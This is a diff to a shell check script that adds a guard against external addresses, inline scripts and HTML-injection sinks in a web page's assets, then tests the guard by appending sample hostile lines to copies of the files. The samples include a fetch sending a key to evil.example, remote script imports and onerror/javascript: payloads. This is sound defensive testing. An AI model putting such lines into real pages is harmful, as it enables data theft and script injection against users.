@@ -14,9 +14,77 @@ for file in assets/* uplot/uPlot.esm.js uplot/uPlot.min.css; do size=$((size + $
 echo "the page: $size bytes gzipped"
 [ $size -lt 200000 ]
 
-! grep -nE 'https?://' assets/* | grep -v 'www.w3.org/2000/svg' || exit 1
-# No style attribute and no inline script; text enters the page as text only.
-! grep -nE 'innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|setAttribute\("style"|<[^>]* style=' assets/* || exit 1
+# What no file of the page may have: an address elsewhere, a style attribute, an inline script or handler, and every way in
+# which text becomes markup or code. Prints what it finds in DIR; fails if it finds something.
+guard() {
+    local found=0
+    found_in() { ! grep -nHE "$@"; }
+    found_in '(https?:)?//[a-z0-9.-]+\.[a-z]{2,}(/|"|\))|@import|url\([^#]' "$1"/* | grep -v 'www.w3.org/2000/svg' && found=1
+    found_in '(inner|outer)HTML|insertAdjacentHTML|document\.write|createContextualFragment|DOMParser|srcdoc|setHTML|javascript:' "$1"/* || found=1
+    found_in '(^|[^.A-Za-z])(eval|Function)[ ]*\(|new +Function|set(Timeout|Interval)\( *["`]|import\( *[^" ]|import\("[^.]' "$1"/*.js || found=1
+    found_in 'setAttribute(NS)?\([^)]*["`](style|on[a-z]+)["`]|\bstyle: *["`]|cssText|\.on[a-z]+ *=[^=]|createElement(NS)?\([^)]*["`](script|iframe|object|embed|style|link)["`]' "$1"/*.js || found=1
+    found_in 'el\( *["`](script|iframe|object|embed|style|link|base|form|meta)["`]' "$1"/*.js || found=1
+    found_in '<[^>]*[[:space:]](style|on[a-z]+)=|<style|<base|<script[^>]*>[^<]|<script(>|[[:space:]]+[^s>][^>]*[^"]>)' "$1"/*.html "$1"/*.svg || found=1
+    return $found
+}
+guard assets || exit 1
+
+# The guard sees each of them: one line at a time in a copy.
+mkdir "$WORK/copy"
+sees() { # FILE LINE
+    cp assets/{main.js,index.html,style.css,icon.svg} "$WORK/copy"
+    printf '%s\n' "$2" >>"$WORK/copy/$1"
+    ! guard "$WORK/copy" >/dev/null || { echo "the guard does not see in $1: $2"; exit 1; }
+}
+while IFS= read -r line; do sees main.js "$line"; done <<'LINES'
+main.innerHTML = name;
+main.outerHTML = name;
+main.insertAdjacentHTML("beforeend", name);
+document.write(name);
+new DOMParser().parseFromString(name, "text/html");
+document.createRange().createContextualFragment(name);
+frame.srcdoc = name;
+main.setHTMLUnsafe(name);
+eval(name);
+x = Function("return 1");
+x = new Function(name);
+setTimeout("go()", 5);
+setInterval(`go()`, 5);
+import(name);
+import("https://evil.example/x.js");
+fetch("https://evil.example/?" + key);
+fetch("//evil.example/");
+node.setAttribute("style", "color: red");
+node.setAttribute("onclick", code);
+el("b", { style: "color: red" });
+node.style.cssText = "color: red";
+node.onclick = go;
+document.createElement("script");
+document.createElement(`iframe`);
+el("script", {});
+el("form", { action: "/" });
+el("a", { href: "javascript:go()" });
+LINES
+while IFS= read -r line; do sees index.html "$line"; done <<'LINES'
+<p style="color: red">x</p>
+<img src=x onerror="go()">
+<style>p { color: red }</style>
+<script>go()</script>
+<script type="module">go()</script>
+<base href="/x/">
+<link rel="stylesheet" href="https://evil.example/x.css">
+<script src="//evil.example/x.js"></script>
+LINES
+while IFS= read -r line; do sees style.css "$line"; done <<'LINES'
+@import "x.css";
+p { background: url(x.png) }
+p { background: url(//evil.example/x.png) }
+LINES
+sees icon.svg '<svg onload="go()"></svg>'
+# What every file has is no finding.
+cp assets/{main.js,index.html,style.css,icon.svg} "$WORK/copy"
+printf '// a comment // with slashes\nlink.href = "#/job/1";\nnode.style.left = "1px";\n' >>"$WORK/copy/main.js"
+guard "$WORK/copy" || exit 1
 
 python3 - <<'PY'
 import pathlib, re
